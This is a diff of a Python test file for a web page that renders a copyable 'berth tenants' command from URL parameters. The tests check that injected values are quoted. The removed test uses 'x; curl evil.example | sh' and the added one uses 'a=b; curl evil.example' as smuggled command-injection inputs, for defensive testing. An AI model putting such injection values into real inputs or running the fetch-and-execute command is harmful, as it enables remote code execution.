@@ -161,9 +161,13 @@ class TestPagesOfOtherSites:
     def test_a_link_of_another_site_may_be_followed(self, ada: Caller) -> None:
         assert ada.ask("GET", "/tenants", {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "document"}).status == 200
 
-    def test_the_command_to_copy_runs_nothing_that_an_address_has_brought(self, ada: Caller) -> None:
-        body = ada.get(f"/tenants?prefix={quote('x; curl evil.example | sh')}").body
-        assert "berth tenants --prefix &#39;x; curl evil.example | sh&#39;" in body
+    @pytest.mark.parametrize("name", ["prefix", "state", "version", "label", "tier", "pinned", "cursor"])
+    def test_the_command_to_copy_runs_nothing_that_an_address_has_brought(self, ada: Caller, name: str) -> None:
+        commands = ada.get(f"/tenants?{name}={quote('a=b; curl evil.example')}").body.split('data-copy="')[1:]
+        assert not [each for each in commands if "; curl" in each.split('"')[0].replace("&#39;a=b; curl", "")]
+
+    def test_the_values_in_the_command_to_copy_are_quoted(self, ada: Caller) -> None:
+        assert "--label &#39;plan=of one&#39;" in ada.get(f"/tenants?label={quote('plan=of one')}").body
 
 
 class TestForms:
